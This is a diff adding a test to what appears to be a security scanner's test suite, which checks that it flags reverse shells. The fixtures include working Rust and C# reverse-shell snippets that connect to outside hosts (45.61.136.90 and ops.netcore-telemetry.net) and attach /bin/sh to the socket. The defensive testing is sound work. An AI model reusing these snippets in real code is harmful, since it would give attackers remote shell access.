@@ -120,4 +120,27 @@ describe('attacker forms, eleventh set', () => {
     ].join('\n')
     expect(hitsOf('credential_harvesting', { 'build.rs': rs })).toEqual(['error credential_harvesting build.rs:4:5'])
   })
+
+  it('finds a shell whose streams are a socket in Rust and C#', () => {
+    const rs = [
+      'let s = TcpStream::connect("45.61.136.90:7443").unwrap();',
+      'let fd = s.as_raw_fd();',
+      'Command::new("/bin/sh").arg("-i")',
+      '    .stdin(unsafe { Stdio::from_raw_fd(fd) })',
+      '    .stdout(unsafe { Stdio::from_raw_fd(fd) })',
+      '    .spawn();',
+    ].join('\n')
+    expect(hitsOf('reverse_shell', { 'build.rs': rs })).toEqual(['error reverse_shell build.rs:4:5'])
+    const cs = [
+      'using var tcp = new TcpClient();',
+      'await tcp.ConnectAsync("ops.netcore-telemetry.net", 9001);',
+      'var p = Process.Start(new ProcessStartInfo("/bin/sh") { RedirectStandardInput = true });',
+      'var net = tcp.GetStream();',
+      '_ = p.StandardOutput.BaseStream.CopyToAsync(net);',
+      'await net.CopyToAsync(p.StandardInput.BaseStream);',
+    ].join('\n')
+    expect(hitsOf('reverse_shell', { 'Agent.cs': cs })).toEqual(['error reverse_shell Agent.cs:5:1'])
+    const log = cs.replace('"/bin/sh"', '"dotnet"').replace(/.*CopyToAsync.*\n?/g, '')
+    expect(hitsOf('reverse_shell', { 'Agent.cs': log })).toEqual([])
+  })
 })
